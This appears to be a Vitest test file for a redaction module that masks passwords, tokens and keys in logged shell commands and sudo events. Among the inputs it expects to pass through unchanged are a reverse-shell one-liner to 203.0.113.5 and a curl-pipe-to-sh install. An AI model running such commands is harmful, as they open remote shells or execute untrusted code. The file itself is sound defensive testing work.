import { describe, expect, it } from 'vitest';
import { redactCommand, redactEvent } from '../src/redact.js';

describe('redactCommand', () => {
  it.each([
    ['/usr/bin/mysql -u root -pS3cretPass db', '/usr/bin/mysql -u root -p*** db'],
    ["mysqldump -h db -p'pa ss' shop", 'mysqldump -h db -p*** shop'],
    ['sshpass -p hunter2 ssh root@10.0.0.5', 'sshpass -p *** ssh root@10.0.0.5'],
    ['/opt/app/cli --password=hunter2 --user bob', '/opt/app/cli --password=*** --user bob'],
    ['pg_dump --db-password hunter2 -f out.sql', 'pg_dump --db-password *** -f out.sql'],
    ['deploy --api-key "abc def" --token=t0k3n', 'deploy --api-key *** --token=***'],
    ['env DB_PASSWORD=hunter2 MYSQL_PWD=x ./run.sh', 'env DB_PASSWORD=*** MYSQL_PWD=*** ./run.sh'],
    ['curl -u admin:hunter2 https://api.example.com', 'curl -u admin:*** https://api.example.com'],
    ['git clone https://bob:hunter2@git.example.com/r.git', 'git clone https://bob:***@git.example.com/r.git'],
    ["curl -H 'Authorization: Bearer abc.def.ghi' https://x", "curl -H 'Authorization: Bearer ***' https://x"],
    ['echo ghp_abcdefghijklmnopqrstuvwxyz0123456789 | gh auth login --with-token', 'echo *** | gh auth login --with-token'],
    ['aws s3 ls --profile AKIAIOSFODNN7EXAMPLE', 'aws s3 ls --profile ***'],
  ])('%s', (command, expected) => {
    expect(redactCommand(command)).toBe(expected);
  });

  it.each([
    'mkdir -p /srv/app/releases',
    'cp -pr /etc/nginx /backup',
    'ssh -p 2222 deploy@10.0.0.5',
    'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1',
    'curl -fsSL https://x.example/install.sh | sh',
    '/usr/sbin/useradd -m -G sudo svc-backup',
    'tar -czf /tmp/x.tgz --exclude=.git .',
  ])('keeps %s as it is', (command) => {
    expect(redactCommand(command)).toBe(command);
  });

  it('takes extra option names from the configuration', () => {
    expect(redactCommand('ansible-playbook --vault-pass-file x --vault-id prod@prompt site.yml', ['--vault-id'])).toBe(
      'ansible-playbook --vault-pass-file *** --vault-id *** site.yml',
    );
  });
});

describe('redactEvent', () => {
  const event = {
    event: 'server.user.sudo',
    event_id: 'va_1',
    timestamp: '2026-01-01T00:00:00.000Z',
    host: 'web1',
    metadata: { command: 'mysql -pS3cret', tty: 'pts/0' },
  };
  it('scrubs the command line and nothing else, and leaves it when turned off', () => {
    expect(redactEvent(event, { command_secrets: true, extra_flags: [] }).metadata).toEqual({ command: 'mysql -p***', tty: 'pts/0' });
    expect(redactEvent(event, { command_secrets: false, extra_flags: [] })).toBe(event);
    expect(event.metadata.command).toBe('mysql -pS3cret');
  });
});
